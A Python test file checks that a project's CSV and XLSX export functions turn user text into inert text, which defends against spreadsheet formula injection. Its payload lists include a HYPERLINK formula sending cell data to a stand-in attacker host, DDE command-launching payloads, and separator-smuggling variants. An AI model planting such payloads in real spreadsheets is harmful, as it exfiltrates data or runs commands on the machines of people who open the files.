"""Formula injection: every file is parsed back, as a spreadsheet would read it."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from kawal.core.spreadsheets import csv_bytes, csv_cell, safe_text, xlsx_bytes

PAYLOADS = [
    ("=1+1", True),
    ('=HYPERLINK("http://attacker.invalid/?x="&A1,"klik")', True),
    ("+62 811 0000", True),
    ("-2+3", True),
    ("@SUM(A1:A2)", True),
    ("\t=1+1", True),
    ("\r=1+1", True),
    ("\n=1+1", True),
    ("  =1+1", True),
    ("\u00a0=1+1", True),
    ("\u3000=1+1", True),
    ("\uff1d1+1", True),  # full-width =
    ("\uff0b1", True),  # full-width +
    ("\uff0d1", True),  # full-width -
    ("\uff201", True),  # full-width @
    ('=cmd|" /C calc"!A0', True),
    ("\x01=1+1", True),  # a control character hiding a formula
    ("Budi Santoso", False),
    ("a=b", False),
    ("", False),
]


def _csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def _sheet(data: bytes):
    return load_workbook(io.BytesIO(data)).active


@pytest.mark.parametrize(("payload", "dangerous"), PAYLOADS)
def test_a_payload_is_text_in_csv_and_xlsx(payload, dangerous):
    rows = [[payload, 5]]
    parsed = _csv_rows(csv_bytes(["Nama", "N"], rows, bom=True))
    sheet = _sheet(xlsx_bytes(["Nama", "N"], rows))
    cell = sheet.cell(row=2, column=1)
    for value in (parsed[1][0], cell.value or ""):
        if dangerous:
            assert value.startswith("'"), repr(value)
        else:
            assert value == payload
        assert "\x01" not in value
    assert cell.data_type == "s" or (cell.value is None and payload == "")
    assert sheet.cell(row=2, column=2).value == 5  # numbers stay numbers


def test_numbers_and_dates_keep_their_type():
    rows = [[-150_000, 2.5, date(2026, 1, 31), None, True]]
    sheet = _sheet(xlsx_bytes(["a", "b", "c", "d", "e"], rows))
    values = [cell.value for cell in sheet[2]]
    assert values[0] == -150_000 and values[1] == 2.5 and values[3] is None
    assert values[2].date() == date(2026, 1, 31)
    parsed = _csv_rows(csv_bytes(["a", "b", "c", "d", "e"], rows))
    assert parsed[1][:4] == ["-150000", "2.5", "2026-01-31", ""]


def test_headers_and_sheet_titles_are_neutralised_too():
    data = xlsx_bytes(["=1+1", "ok"], [], title="a/b[c]:*?'", stamp="Oleh =Ani & co\x02")
    workbook = load_workbook(io.BytesIO(data))
    sheet = workbook.active
    assert sheet.cell(row=1, column=1).value == "'=1+1"
    assert sheet.title == "a b c"
    assert "&&" in sheet.oddHeader.center.text and "\x02" not in sheet.oddHeader.center.text


def test_csv_carries_a_bom_only_when_asked():
    assert csv_bytes(["a"], []).startswith(b"a")
    assert csv_bytes(["a"], [], bom=True).startswith(b"\xef\xbb\xbf")


@settings(max_examples=60, deadline=None)
@given(st.text(max_size=40))
def test_any_text_comes_back_as_inert_text(text):
    sheet = _sheet(xlsx_bytes(["h"], [[text]]))
    cell = sheet.cell(row=2, column=1)
    expected = safe_text(text)
    if expected == "":
        assert cell.value is None
        return
    assert cell.data_type == "s"
    value = str(cell.value)
    assert not value.lstrip(" \u00a0\u3000").startswith(("=", "+", "-", "@", "\uff1d"))

    # Nothing but the prefix and control characters is changed (XML itself
    # reads a carriage return as a line feed).
    def lines(x: str) -> str:
        return x.removeprefix("'").replace("\r\n", "\n").replace("\r", "\n")

    assert lines(value) == lines(expected)
    parsed = _csv_rows(csv_bytes(["h"], [[text]], bom=True))
    line = parsed[1][0] if len(parsed) > 1 and parsed[1] else ""
    assert line == csv_cell(text)
    assert not line.lstrip(" \u00a0\u3000").startswith(("=", "+", "-", "@", "\t", "\r", "\n"))


# Excel on Indonesian Windows splits a CSV on ";" (the list separator) and
# honours quotes only at the start of a field; a line break inside a quoted
# field that does not start a ";"-field ends the record.
SPLIT_PAYLOADS = [
    "Budi;=cmd|' /C calc'!A0",
    "Budi; =1+1",
    'Budi;"=1+1',
    "Budi;-2+3",
    "Budi;@SUM(A1)",
    "Budi\t=1+1",
    "Budi\n=1+1",
    "Budi\r\n+1",
    "Budi;\u200b=1+1",
    "Budi;\uff1d1+1",
]


def _split_cells(data: bytes, separators: str = ";\t\n\r") -> list[str]:
    """The cells a naive split on any of ``separators`` gives (ignoring quotes)."""
    text = data.decode("utf-8-sig")
    cells = [text]
    for separator in separators + ",":
        cells = [part for cell in cells for part in cell.split(separator)]
    return cells


@pytest.mark.parametrize("payload", SPLIT_PAYLOADS)
def test_no_formula_behind_a_separator_inside_a_csv_cell(payload):
    data = csv_bytes(["Nama", "N"], [["K-1", payload, 5]], bom=True)
    for cell in _split_cells(data):
        bare = cell.lstrip(' "\u200b')
        assert not bare.startswith(("=", "+", "-", "@", "\uff1d")), (payload, cell)
    # A reader that honours RFC 4180 gets the text back with the apostrophe only.
    value = _csv_rows(data)[1][1]
    assert value.replace("'", "") == payload.replace("'", "")


@pytest.mark.parametrize("payload", ["\u2003=1+1", "\u200b=1+1", "\ufeff@SUM(A1)", "\u2009-1"])
def test_any_blank_or_invisible_mark_before_a_formula_is_seen_through(payload):
    assert safe_text(payload).startswith("'")


def test_the_funding_csv_uses_the_same_rules():
    from kawal.funding.exports import csv_safe

    assert csv_safe("Yayasan;=1+1") == "Yayasan;'=1+1"
    assert csv_safe(-150_000) == -150_000
